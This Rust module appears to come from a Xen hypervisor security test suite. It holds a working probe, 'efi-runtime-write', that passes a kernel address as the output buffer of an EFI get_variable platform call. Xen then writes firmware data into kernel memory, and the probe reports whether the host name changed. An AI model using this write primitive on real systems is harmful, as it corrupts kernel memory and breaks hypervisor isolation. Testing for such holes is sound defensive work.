//! A pointer inside of a union inside of a structure: the value of a firmware variable lands where it says.

use super::{Attack, Level};
use crate::outcome::{Outcome, absent_or_held, breached, broken, not_applicable, works};
use crate::witness::{HostName, is_guarded};
use crate::xen::{Buffer, Privcmd};

pub(super) const ATTACK: Attack = Attack {
    id: "efi-runtime-write",
    rule: "B3",
    level: Level::Integrity,
    summary: "platform_op(efi_runtime_call get_variable) with a kernel address for the value: Xen writes it there",
    needs: "privcmd; a machine that booted by EFI",
    observed: "the kernel's host name changes without a system call",
    healthy: true,
    timeout_s: super::USUAL_S,
    run,
    twin,
};

const EFI_RUNTIME_CALL: u32 = 49;
const GET_VARIABLE: u64 = 6;
/// 8be4df61-93ca-11d2-aa0d-00e098032b8c, as it lies in memory.
const GLOBAL: [u64; 2] = [0x11d2_93ca_8be4_df61, 0x8c2b_0398_e000_0daa];

fn run() -> Outcome {
    let privcmd = Privcmd::open()?;
    let name = HostName::marked()?;
    let answer = read(&privcmd, name.address);
    if name.changed()? { breached(name.told()?) } else { absent_or_held("get_variable", answer) }
}

fn twin() -> Outcome {
    if is_guarded() {
        // The kernel's own way to the same variable.
        let file = "/sys/firmware/efi/efivars/SecureBoot-8be4df61-93ca-11d2-aa0d-00e098032b8c";
        let value = std::fs::read(file)?;
        return works(format!("SecureBoot is {:?} in efivarfs", value.last()));
    }
    let privcmd = Privcmd::open()?;
    let value = Buffer::new(1)?;
    value.write(0, &[0xff]);
    match read(&privcmd, value.address()) {
        Ok(_) if value.get::<u8>(0) < 2 => works(format!("SecureBoot is {}", value.get::<u8>(0))),
        Ok(status) => broken(format!("get_variable: status {status:#x}")),
        Err(_) if !std::path::Path::new("/sys/firmware/efi").exists() => {
            not_applicable("the machine did not boot by EFI")
        }
        Err(error) => broken(format!("get_variable: {error:#}")),
    }
}

/// Has Xen read the variable SecureBoot into `address`; gives the firmware's status.
fn read(privcmd: &Privcmd, address: u64) -> anyhow::Result<u64> {
    let text: Vec<u8> = "SecureBoot\0".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let text = Buffer::with(&text)?;
    let request = [GET_VARIABLE, 0, text.address(), 1, address, GLOBAL[0], GLOBAL[1]];
    let answer = privcmd.platform(EFI_RUNTIME_CALL, &request)?;
    Ok(answer[1])
}
